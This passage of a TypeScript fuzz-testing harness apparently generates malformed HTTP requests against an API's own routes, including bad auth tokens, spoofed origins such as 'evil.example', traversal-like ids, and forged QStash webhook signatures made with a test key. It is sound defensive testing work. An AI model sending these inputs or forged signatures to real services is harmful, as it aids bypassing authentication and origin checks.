  const raw = fc.constantFrom('%', '%zz', '&&&', '=', '==', 'a=%00', '?', 'latitude', 'latitude=&longitude=', 'a[b]=1&a[c]=2', 'x=' + '%41'.repeat(2000), ';', '#frag').map((text) => ({ kind: 'raw' as const, text }));
  const chartQuery = spec.kind === 'chart-get' || spec.kind === 'divisional-one-get';
  const options: Array<fc.WeightedArbitrary<FuzzQuery>> = [
    { weight: seed.length ? 6 : 1, arbitrary: mutated },
    { weight: 1, arbitrary: raw },
    { weight: seed.length ? 1 : 3, arbitrary: fc.constant({ kind: 'pairs' as const, pairs: seed }) },
  ];
  if (chartQuery) options.push({ weight: 3, arbitrary: validPairs });
  return fc.oneof(...options);
}

export function queryText(query: FuzzQuery): string {
  if (query.kind === 'raw') return query.text;
  return query.pairs.map(([k, v]) => `${encodeUri(k)}=${encodeUri(v)}`).join('&');
}

// ---------------------------------------------------------------------------
// Methods and headers.

export const ODD_METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'QUERY', 'PROPFIND', 'MKCOL', 'TRACE'];

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json;charset=UTF-16',
  'application/json ; charset=utf-8',
  'APPLICATION/JSON',
  'application/vnd.api+json',
  'application/problem+json',
  'application/json-patch+json',
  'application/jsonx',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'text/plain',
  'text/json',
  'application/xml',
  'application/octet-stream',
  '*/*',
  'json',
  '',
  ';;;',
  'application/json; charset=',
  'application/json; boundary="a;b"',
];

export interface FuzzHeaders {
  contentType: string | null;
  extra: Array<[string, string]>;
}

export function headersArb(spec: RouteSpec): fc.Arbitrary<FuzzHeaders> {
  const contentType = fc.oneof(
    { weight: 20, arbitrary: fc.constant('application/json') },
    { weight: 4, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
    { weight: 1, arbitrary: asciiText(60) },
    { weight: 1, arbitrary: fc.constant(null) },
  );
  /** The header in about one request in `every`: most requests must get past authentication to reach validation. */
  const header = (name: string, value: fc.Arbitrary<string>, every = 12) =>
    fc.oneof({ weight: every - 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: value.map((v) => [name, v] as [string, string]) });
  const badAuth = fc.oneof(
    fc.constantFrom('Bearer', 'Bearer ', 'Basic YTpi', 'bearer x', `Bearer ${'a'.repeat(3000)}`, 'Bearer ae_live_0000000000000000000000000000000000', '', 'Token x y z'),
    asciiText(80).map((t) => `Bearer ${t}`),
  );
  // Admin routes mostly get the right token, so that their validation is reached.
  const auth = spec.admin
    ? fc.oneof({ weight: 6, arbitrary: fc.constant(['authorization', `Bearer ${FUZZ_ADMIN_TOKEN}`] as [string, string]) }, { weight: 1, arbitrary: badAuth.map((v) => ['authorization', v] as [string, string]) }, { weight: 1, arbitrary: fc.constant(null) })
    : header('authorization', badAuth, 15);
  const extras = fc.tuple(
    auth,
    header('x-api-key', fc.oneof(fc.constantFrom('ae_live_', 'ae_live_' + '0'.repeat(40), '', ' '), asciiText(100)), 15),
    header('x-request-id', fc.oneof(fc.constantFrom('fuzz-1', 'x'.repeat(129), 'a b', '../../x', '<id>', ''), asciiText(200))),
    header('idempotency-key', fc.oneof(fc.constantFrom('k1', 'x'.repeat(256), ''), asciiText(300))),
    header('if-none-match', fc.constantFrom('*', '"abc"', 'W/"abc"', 'W/', '""', ',,,', '"a", "b", *', 'x'.repeat(2000))),
    header('origin', fc.oneof(fc.constantFrom(FUZZ_ORIGIN_ALLOWED, 'https://evil.example', 'null', 'https://allowed.example.evil', 'http://allowed.example', 'file://', ''), asciiText(60))),
    header('cf-connecting-ip', fc.oneof(fc.ipV4(), fc.ipV6(), fc.constantFrom('', 'unknown', '999.999.999.999', '::ffff:127.0.0.1', 'x'.repeat(300)), asciiText(40)), 2),
    header('accept', fc.constantFrom('*/*', 'text/html', 'application/xml', 'application/json;q=0', '', 'x/y;q=nan')),
    header('content-encoding', fc.constantFrom('gzip', 'br', 'deflate', 'identity', 'x-bogus')),
    header('upstash-signature', fc.oneof(fc.constantFrom('eyJhbGciOiJIUzI1NiJ9.e30.x', '...', ''), asciiText(120))),
    header('access-control-request-method', fc.constantFrom('POST', 'GET', 'DELETE', 'BREW', '')),
    header('cf-ray', asciiText(40)),
    header('x-odd', asciiText(100), 4).chain((h) => (h ? fc.stringMatching(/^x-[a-z0-9-]{1,20}$/).map((name) => [name, h[1]] as [string, string]) : fc.constant(null))),
  );
  return fc.record({ contentType, extra: extras.map((hs) => hs.filter((h): h is [string, string] => h !== null)) });
}

// ---------------------------------------------------------------------------
// The whole request.

export interface FuzzRequest {
  method: string;
  path: string;
  suffix: string;
  query: FuzzQuery;
  body: FuzzBody;
  headers: FuzzHeaders;
  /** QStash routes: sign the body with the test's signing key, so that parsing is reached. */
  sign: boolean;
}

export function requestArb(spec: RouteSpec, realIds: Record<string, string>): fc.Arbitrary<FuzzRequest> {
  return fc
    .record({
    method: fc.oneof({ weight: 6, arbitrary: fc.constant(spec.method) }, { weight: 1, arbitrary: fc.constantFrom(...ODD_METHODS) }),
    location: pathArb(spec, realIds),
    query: queryArb(spec),
    body: bodyArb(spec),
    headers: headersArb(spec),
    sign: spec.kind.startsWith('qstash') ? fc.boolean() : fc.constant(false),
  })
    .map(({ location, ...rest }) => ({ ...rest, path: location.path, suffix: location.suffix }));
}

export const BASE_URL = 'https://api.fuzz.test';

export function toRequest(spec: RouteSpec, r: FuzzRequest, signature?: string): Request {
  const headers = new Headers();
  for (const [name, value] of r.headers.extra) headers.append(name, value);
  if (signature !== undefined) headers.set('upstash-signature', signature);
  const noBody = r.method === 'GET' || r.method === 'HEAD';
  const text = noBody ? undefined : bodyText(r.body, seedBody(spec));
  if (r.headers.contentType !== null && !noBody) headers.set('content-type', r.headers.contentType);
  const qs = queryText(r.query);
  return new Request(`${BASE_URL}${r.path}${r.suffix}${qs ? `?${qs}` : ''}`, { method: r.method, headers, body: text });
}

/** One line for a failure report: enough to rebuild the request by hand. */
export function describeRequest(spec: RouteSpec, r: FuzzRequest): string {
  const text = r.method === 'GET' || r.method === 'HEAD' ? undefined : bodyText(r.body, seedBody(spec));
  const body = text === undefined ? '' : ` body(${text.length} B)=${JSON.stringify(text.length > 300 ? `${text.slice(0, 300)}…` : text)}`;
  const headers = r.headers.extra.map(([k, v]) => `${k}: ${v.length > 60 ? `${v.slice(0, 60)}…` : v}`).join(' | ');
  return `${r.sign ? '(signed) ' : ''}${r.method} ${r.path}${r.suffix}${queryText(r.query) ? `?${queryText(r.query).slice(0, 200)}` : ''} content-type=${JSON.stringify(r.headers.contentType)} [${headers}]${body}`;
}

/** The QStash signing key the fuzz configures, and an `Upstash-Signature` for a body sent to `url` (HS256 JWT, as QStash signs). */
export const FUZZ_SIGNING_KEY = 'sig_fuzz_current_0123456789';

export async function qstashSignature(url: string, body: string): Promise<string> {
  const enc = new TextEncoder();
  const b64url = (bytes: Uint8Array) => btoa(String.fromCharCode(...bytes)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
  const now = Math.floor(Date.now() / 1000);
  const bodyHash = b64url(new Uint8Array(await crypto.subtle.digest('SHA-256', enc.encode(body))));
  const header = b64url(enc.encode(JSON.stringify({ alg: 'HS256', typ: 'JWT' })));
  const payload = b64url(enc.encode(JSON.stringify({ iss: 'Upstash', sub: url, exp: now + 300, nbf: now, iat: now, jti: crypto.randomUUID(), body: bodyHash })));
  const key = await crypto.subtle.importKey('raw', enc.encode(FUZZ_SIGNING_KEY), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
  const mac = new Uint8Array(await crypto.subtle.sign('HMAC', key, enc.encode(`${header}.${payload}`)));
  return `${header}.${payload}.${b64url(mac)}`;
}
